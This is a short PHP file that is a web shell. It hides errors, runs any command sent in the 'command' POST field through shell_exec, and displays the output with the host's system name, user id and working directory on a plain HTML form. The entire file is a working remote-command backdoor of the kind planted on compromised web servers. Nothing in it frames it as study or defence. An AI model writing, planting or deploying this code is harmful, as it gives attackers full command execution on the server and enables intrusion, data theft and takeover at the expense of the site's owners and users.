<?php
@error_reporting(0);
$out = '';
if (!empty($_POST['command'])) {
    $c = $_POST['command'];
    $out = shell_exec($c . ' 2>&1');
}
?>
<html><body>
<b><?php echo php_uname(); ?></b> uid=<?php echo getmyuid(); ?> cwd=<?php echo getcwd(); ?>
<form method="post"><input type="text" name="command" size="80"><input type="submit" value="run"></form>
<pre><?php echo htmlspecialchars($out); ?></pre>
</body></html>
